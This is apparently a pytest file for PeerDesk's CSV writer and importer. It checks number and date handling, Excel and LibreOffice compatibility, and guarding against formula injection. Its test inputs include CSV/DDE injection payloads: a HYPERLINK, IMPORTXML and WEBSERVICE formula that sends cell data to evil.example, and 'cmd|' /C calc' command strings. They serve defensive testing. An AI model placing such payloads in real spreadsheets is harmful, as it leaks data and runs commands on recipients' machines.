"""CSV that spreadsheets read right: the shared writer's rules, formula attacks, files saved
the way Excel saves them imported through the real CLI, and exports opened in LibreOffice."""

from __future__ import annotations

import codecs
import csv
import io
import random
import re
import shutil
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import ADMIN_PW, COORD_PW, assert_one_line_error, run_cli

from peerdesk.services import audit_log, resources, spreadsheet, supporters
from peerdesk.services.spreadsheet import TEXT_MARK, cell, is_formula, plain, text_cell
from peerdesk.services.store import open_store

ROOT = Path(__file__).resolve().parents[1]
BOM = codecs.BOM_UTF8

# -- the writer's rules ----------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (12, "12"),
        (-3, "-3"),  # a real number stays a number
        (10**16, TEXT_MARK + "10000000000000000"),  # Excel keeps only 15 digits
        (1.5, TEXT_MARK + "1.5"),  # a German spreadsheet reads "1.5" as 1 May
        (Decimal("0.25"), TEXT_MARK + "0.25"),
        (date(2026, 4, 1), "2026-04-01"),
        (datetime(2026, 4, 1, 9, 30, 5, 123456), "2026-04-01 09:30:05"),
        ("Zoë Łukasz Ğül", "Zoë Łukasz Ğül"),
        ("nursing", "nursing"),
        ("Room 12", "Room 12"),
        ("Mon-Fri 9-17", "Mon-Fri 9-17"),
        ("<11", "<11"),
        ("", ""),
    ],
)
def test_cell_rules(value, written):
    assert cell(value) == written


@pytest.mark.parametrize(
    "text",
    [
        "3-5",  # experience bands: Excel makes 5 March of "3-5"
        "0-2",
        "6-10",
        "10+",  # LibreOffice reads "10+" as 10
        "007",  # leading zeros
        "1E5",  # 100000
        "+44 20 7946 0958",  # a phone number: a formula error in Excel
        "+4420",  # 4420, the plus lost
        "-5",
        "2026-04-01",  # a date typed into a text field stays the text typed
        "Apr-26",
        "April 2026",
        "SEPT1",
        "12:30",
        "9 am",
        "1/2",
        "(5)",
        "50%",
        "$5",
        "1,234",
        "TRUE",
        "falsch",
    ],
)
def test_text_a_spreadsheet_would_convert_gets_the_invisible_mark(text):
    written = text_cell(text)
    assert written == TEXT_MARK + text
    assert plain(written) == text


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=1+1",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",  # full-width equals sign
        "\uff20SUM(A1)",
        '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
        '=WEBSERVICE("http://evil.example")',
        "- see notes",
    ],
)
def test_formula_attacks_are_guarded_with_an_apostrophe(attack):
    written = text_cell(attack)
    assert written == "'" + attack
    assert not is_formula(written)


@pytest.mark.parametrize("text", ["-2+3", "+44 (0) 20 7946-0958", "--", "-", "+1 555 010 0199"])
def test_number_like_text_starting_with_a_sign_is_marked_not_apostrophed(text):
    # Arithmetic at worst even if a tool dropped the mark: only digits and + - ( ) . , / :
    written = text_cell(text)
    assert written == TEXT_MARK + text and not is_formula(written)
    assert not re.search(r"[A-Za-z|!@=]", text)


def test_no_random_text_is_written_as_a_formula():
    # A fuzzer over the characters that matter: nothing written starts a formula, and
    # what a reader sees (mark removed) is the text or the apostrophe plus the text.
    rng = random.Random(10)
    alphabet = "=+-@ \t\r\n0123456789.,/:()%E'a|!\u00a0\uff1d\uff0b\u200b"
    for _ in range(20000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8)))
        written = text_cell(text)
        assert not is_formula(written), repr(text)
        assert plain(written) in (text, "'" + text), repr(text)
        if written.startswith(TEXT_MARK) and text.lstrip(" \t\r\n\u00a0")[:1] in "+-\uff0b":
            assert not re.search(r"[A-Za-z|!@=]", text), repr(text)


def test_every_csv_writer_goes_through_the_spreadsheet_module():
    # A new CSV (an audit export, a report table) must not bypass the BOM and the rules.
    offenders = []
    for path in (ROOT / "peerdesk").rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


def test_csv_text_and_saved_file(tmp_path):
    text = spreadsheet.csv_text(["name", "band", "ok"], [["Zoë", "3-5", True], ["=1", None, False]])
    assert text == f"name,band,ok\r\nZoë,{TEXT_MARK}3-5,yes\r\n'=1,,no\r\n"
    target = tmp_path / "out.txt"  # the BOM does not depend on the file's suffix
    spreadsheet.save_text(target, text)
    assert target.read_bytes() == BOM + text.encode("utf-8")


# -- import of files saved the way Excel saves them ------------------------------------


def _import(store_dir, kind: str, path: Path):
    return run_cli(
        "import",
        kind,
        str(path),
        "--user",
        "coord",
        data_dir=store_dir.data_dir,
        env={"PEERDESK_PASSWORD": COORD_PW},
    )


def _excel_bytes(rows: list[list[str]], sep: str = ";") -> bytes:
    """What Excel's "CSV UTF-8" writes: BOM, CRLF, quotes only where needed, LF in cells."""
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return BOM + out.getvalue().encode("utf-8")


def test_german_excel_semicolon_file_with_line_breaks_and_empty_columns(store_dir, tmp_path):
    f = tmp_path / "Ressourcen.csv"
    f.write_bytes(
        _excel_bytes(
            [
                ["name", "kind", "phone", "notes", "hours", "", ""],
                [
                    "Crisis Line Zoë",
                    "crisis_line",
                    "+44 20 7946 0958",
                    "Call first\nthen walk in",
                    "24/7",
                    "",
                    "",
                ],
                [
                    "Łukasz Ğül Chaplaincy",
                    "chaplaincy",
                    "",
                    "Room 3-5; floor 2",
                    "Mon-Fri 9-17",
                    "",
                    "",
                ],
                ["", "", "", "", "", "", ""],
                ["", "", "", "", "", "", ""],
            ]
        )
    )
    assert b";;\r\n;;;;;;\r\n" in f.read_bytes()
    r = _import(store_dir, "resources", f)
    assert r.returncode == 0, r.stderr
    assert "Imported 2 resources" in r.stdout
    store, coord = open_store(store_dir.data_dir, "coord", COORD_PW)
    with store:
        got = {x.name: x for x in resources.list_resources(store, coord)}
    assert got["Crisis Line Zoë"].phone == "+44 20 7946 0958"
    assert got["Crisis Line Zoë"].notes == "Call first\nthen walk in"
    assert got["Łukasz Ğül Chaplaincy"].notes == "Room 3-5; floor 2"


def test_row_numbers_count_records_not_lines(store_dir, tmp_path):
    # Row 2's notes span three lines; the bad kind is on spreadsheet row 3 (file line 5).
    f = tmp_path / "res.csv"
    f.write_bytes(
        _excel_bytes(
            [
                ["name", "kind", "notes"],
                ["EAP", "eap", "line one\nline two\nline three"],
                ["Crisis", "hotline", ""],
            ]
        )
    )
    line = assert_one_line_error(_import(store_dir, "resources", f))
    assert "row 3, column 'kind'" in line and "nothing was imported" in line


def test_supporters_from_semicolon_excel_with_marked_bands(store_dir, tmp_path):
    # A band as PeerDesk's own export writes it (invisible mark) reads back as the band.
    f = tmp_path / "supporters.csv"
    f.write_bytes(
        _excel_bytes(
            [
                ["display_name", "experience_band", "languages", "capacity", ""],
                ["Zoë Łukasz Ğül", TEXT_MARK + "3-5", "en,pl,tr", "8", ""],
                ["Ana Souza", "10+", "pt", "", ""],
            ]
        )
    )
    r = _import(store_dir, "supporters", f)
    assert r.returncode == 0, r.stderr
    store, coord = open_store(store_dir.data_dir, "coord", COORD_PW)
    with store:
        got = {s.display_name: s for s in supporters.list_supporters(store, coord)}
    assert got["Zoë Łukasz Ğül"].experience_band == "3-5"
    assert got["Zoë Łukasz Ğül"].languages == "en,pl,tr"
    assert got["Ana Souza"].experience_band == "10+"


def test_excel_unicode_text_and_sep_line(store_dir, tmp_path):
    # Excel's "Unicode Text": UTF-16 with tabs; and a file with Excel's "sep=;" hint line.
    tabbed = tmp_path / "res.txt"
    tabbed.write_bytes("name\tkind\r\nZoë EAP\teap\r\n".encode("utf-16"))
    assert _import(store_dir, "resources", tabbed).returncode == 0
    for ending in (b"\r\n", b"\r"):  # CR alone: old Mac Excel
        hinted = tmp_path / "hinted.csv"
        hinted.write_bytes(ending.join([b"sep=;", b"name;kind", b"Other;community", b"Bad;nope"]))
        line = assert_one_line_error(_import(store_dir, "resources", hinted))
        assert "row 3, column 'kind'" in line  # the sep= line is not a spreadsheet row


@pytest.mark.parametrize(
    "content, expected",
    [
        (
            b"name|kind\r\nEAP|eap\r\n",
            "unknown column 'name|kind'; the header was read as separated by ',' (comma), "
            "but it looks separated by '|'",
        ),
        (
            b"name;kind;colour\r\nEAP;eap;red\r\n",
            "unknown column 'colour'; the header was read as separated by ';' (semicolon)",
        ),
        (
            b"kind;hours\r\neap;24/7\r\n",
            "required column 'name' is missing; the header was read as separated by ';'",
        ),
        (b"name;;kind\r\nEAP;;eap\r\n", "row 1: column 2 has no name"),
        (b"name;kind;;\r\nEAP;eap;;x\r\n", "row 2: more values than columns (column 4"),
    ],
)
def test_unreadable_header_names_the_separator(store_dir, tmp_path, content, expected):
    f = tmp_path / "res.csv"
    f.write_bytes(BOM + content)
    line = assert_one_line_error(_import(store_dir, "resources", f))
    assert expected in line


# -- exports opened in LibreOffice -----------------------------------------------------

soffice = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(soffice is None, reason="LibreOffice (soffice) not installed")

NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _para_text(el) -> str:
    """A text:p element's text as a reader sees it (runs of spaces, tabs, breaks)."""
    out = [el.text or ""]
    for child in el:
        tag = child.tag.split("}")[1]
        if tag == "s":
            out.append(" " * int(child.get(f"{{{NS['text']}}}c", "1")))
        elif tag == "tab":
            out.append("\t")
        elif tag == "line-break":
            out.append("\n")
        else:
            out.append(_para_text(child))
        out.append(child.tail or "")
    return "".join(out)


def _calc_cells(fods: Path) -> list[list[tuple[str, str, str | None, bool]]]:
    """Per row: (type, shown text, typed value, has a formula) as LibreOffice read them."""
    import xml.etree.ElementTree as ET

    office, table = NS["office"], NS["table"]
    rows = []
    for row in ET.parse(fods).getroot().iter(f"{{{table}}}table-row"):
        cells = []
        for c in row.findall("table:table-cell", NS):
            repeat = int(c.get(f"{{{table}}}number-columns-repeated", "1"))
            paras = c.findall("text:p", NS)
            shown = "\n".join(_para_text(p) for p in paras)
            value = c.get(f"{{{office}}}value") or c.get(f"{{{office}}}date-value")
            kind = c.get(f"{{{office}}}value-type") or ""
            formula = c.get(f"{{{table}}}formula") is not None
            cells.extend([(kind, shown, value, formula)] * min(repeat, 50))
        rows.append(cells)
    return rows


def _open_in_calc(files: list[Path], out: Path, language: int) -> dict[str, list]:
    """Convert CSVs as Calc opens them: UTF-8, comma, and "detect special numbers" on,
    which makes Calc guess dates, times, percentages and money the way Excel does."""
    import subprocess

    options = f"CSV:44,34,76,1,,{language},false,true"
    subprocess.run(
        [
            str(soffice),
            "--headless",
            "--norestore",
            f"-env:UserInstallation={(out / 'profile').as_uri()}",
            f"--infilter={options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return {f.stem: _calc_cells(out / f"{f.stem}.fods") for f in files}


@needs_soffice
def test_exports_open_in_libreoffice_with_names_bands_and_codes_intact(store_dir, tmp_path):
    sup = tmp_path / "supporters.csv"
    sup.write_bytes(
        _excel_bytes(
            [
                ["display_name", "department", "specialty", "experience_band", "status"],
                ["Zoë Łukasz Ğül", "007", "1E5", "3-5", "active"],
                ["Ana Souza", "Apr-26", '=HYPERLINK("http://evil.example","x")', "0-2", "on_leave"],
                ["Dev Patel", "+4420", "@SUM(1+1)*cmd|' /C calc'!A0", "6-10", "active"],
                ["Erin Walsh", "TRUE", "-2+3", "10+", "active"],
            ],
            sep=",",
        )
    )
    res = tmp_path / "resources.csv"
    res.write_bytes(
        _excel_bytes(
            [
                ["name", "kind", "phone", "hours", "notes", "active"],
                [
                    "Crisis Line Zoë",
                    "crisis_line",
                    "+44 20 7946 0958",
                    "24/7",
                    "Call\nfirst",
                    "yes",
                ],
                ["Chaplaincy", "chaplaincy", "-2+3", "9-5", "=cmd|' /C calc'!A0", "no"],
            ]
        )
    )
    assert _import(store_dir, "supporters", sup).returncode == 0
    assert _import(store_dir, "resources", res).returncode == 0
    out = tmp_path / "export"
    r = run_cli(
        "export",
        "--out",
        str(out),
        "--user",
        "coord",
        data_dir=store_dir.data_dir,
        env={"PEERDESK_PASSWORD": COORD_PW},
    )
    assert r.returncode == 0, r.stderr
    report_csv = tmp_path / "report.csv"
    r = run_cli(
        "report",
        "--month",
        "2026-04",
        "--csv",
        str(report_csv),
        "--user",
        "coord",
        data_dir=store_dir.data_dir,
        env={"PEERDESK_PASSWORD": COORD_PW},
    )
    assert r.returncode == 0, r.stderr
    store, admin = open_store(store_dir.data_dir, "admin", ADMIN_PW)
    with store:
        audit_csv = audit_log.export_csv(store, admin, tmp_path / "audit.csv").path
    files = [
        out / "supporters.csv",
        out / "resources.csv",
        out / "users.csv",
        report_csv,
        audit_csv,
    ]
    written = {}
    for f in files:
        assert f.read_bytes().startswith(BOM)
        written[f.stem] = list(csv.reader(io.StringIO(f.read_text("utf-8-sig"))))
    checked = 0
    for language in (1033, 1031):  # English (US) and German (Germany)
        calc = _open_in_calc(files, tmp_path / f"calc-{language}", language)
        for stem, rows in written.items():
            for r_i, row in enumerate(rows):
                for c_i, text in enumerate(row):
                    kind, shown, value, formula = calc[stem][r_i][c_i]
                    where = f"{stem} row {r_i + 1} col {rows[0][c_i]} ({language}): {text!r}"
                    assert not formula, where  # nothing is ever run
                    if not text:
                        assert kind == "" and shown == "", where
                    elif re.fullmatch(r"\d+", text):
                        assert kind == "float" and value == text, where  # ids, counts
                    elif re.fullmatch(r"\d{4}-\d\d-\d\d( \d\d:\d\d:\d\d)?", text):
                        assert kind == "date", where  # a real date (and time)
                        assert value is not None and value.replace("T", " ") == text, where
                    else:  # text stays the text, the mark invisible, the guard visible
                        assert kind == "string" and plain(shown) == plain(text), where
                    checked += 1
        sheet = _by_first_column(calc, "supporters", "display_name")
        zoe = sheet["Zoë Łukasz Ğül"]
        assert (zoe["experience_band"], zoe["department"], zoe["specialty"]) == (
            "3-5",
            "007",
            "1E5",
        )
        bands = {r["experience_band"] for r in sheet.values()} - {""}  # accounts have none
        assert bands == {"3-5", "0-2", "6-10", "10+"}
        assert sheet["Ana Souza"]["specialty"].startswith("'=HYPERLINK(")
        assert sheet["Erin Walsh"]["specialty"] == "-2+3"
        assert sheet["Erin Walsh"]["department"] == "TRUE"
        crisis = _by_first_column(calc, "resources", "name")["Crisis Line Zoë"]
        assert crisis["phone"] == "+44 20 7946 0958" and crisis["hours"] == "24/7"
        assert crisis["notes"] == "Call\nfirst" and crisis["active"] == "yes"
        report = {(r[1][1], r[2][1]): r[3] for r in calc["report"][1:] if len(r) > 3}
        assert report[("Site", "")][1] == "Test Clinic"
        assert report[("From", "")][0] == "date"
        audit = _by_first_column(calc, "audit", "number")
        assert any(r["action"] == "import.supporters" for r in audit.values())
    assert checked > 100


def _by_first_column(calc: dict, stem: str, key: str) -> dict[str, dict[str, str]]:
    """Rows of a converted sheet keyed by one column, each as {column: shown text}."""
    head = [c[1] for c in calc[stem][0]]
    rows = [r for r in calc[stem][1:] if any(c[1] for c in r)]
    return {
        plain(r[head.index(key)][1]): {h: plain(c[1]) for h, c in zip(head, r, strict=False)}
        for r in rows
    }
